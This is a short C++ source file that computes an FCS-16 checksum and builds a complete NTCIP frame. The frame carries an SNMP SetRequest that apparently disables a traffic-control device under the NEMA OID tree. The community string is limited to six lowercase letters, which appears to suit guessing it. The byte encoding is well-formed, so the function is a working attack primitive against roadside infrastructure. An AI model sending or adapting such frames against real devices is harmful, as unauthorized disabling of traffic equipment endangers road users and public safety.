#include "NtcipFrame.h"

#include <algorithm>

uint16_t Fcs16(const uint8_t* bytes, size_t length)
{
    uint16_t fcs = 0xFFFF;
    for (size_t i = 0; i < length; ++i) {
        fcs ^= bytes[i];
        for (int bit = 0; bit < 8; ++bit)
            fcs = (fcs & 1) ? static_cast<uint16_t>((fcs >> 1) ^ 0x8408) : static_cast<uint16_t>(fcs >> 1);
    }
    return static_cast<uint16_t>(~fcs);
}

std::optional<NtcipFrame> BuildNtcipDisableFrame(std::string_view community)
{
    if (community.size() != 6 || !std::all_of(community.begin(), community.end(), [](char c) { return c >= 'a' && c <= 'z'; }))
        return std::nullopt;
    NtcipFrame f{};
    size_t n = 0;
    auto put = [&](std::initializer_list<uint8_t> bytes) {
        for (uint8_t b : bytes)
            f[n++] = b;
    };
    put({0x7E, 0x05, 0x13, 0xC1});
    put({0x30, 0x2D, 0x02, 0x01, 0x00, 0x04, 0x06});
    for (char c : community)
        f[n++] = static_cast<uint8_t>(c);
    put({0xA3, 0x20, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00});
    put({0x30, 0x15, 0x30, 0x13, 0x06, 0x0E, 0x2B, 0x06, 0x01, 0x04, 0x01, 0x89, 0x36, 0x03, 0x1D, 0x01, 0x06, 0x01,
         0x02, 0x0A, 0x02, 0x01, 0x03});
    const uint16_t fcs = Fcs16(f.data() + 1, n - 1);
    put({static_cast<uint8_t>(fcs & 0xFF), static_cast<uint8_t>(fcs >> 8), 0x7E});
    return f;
}
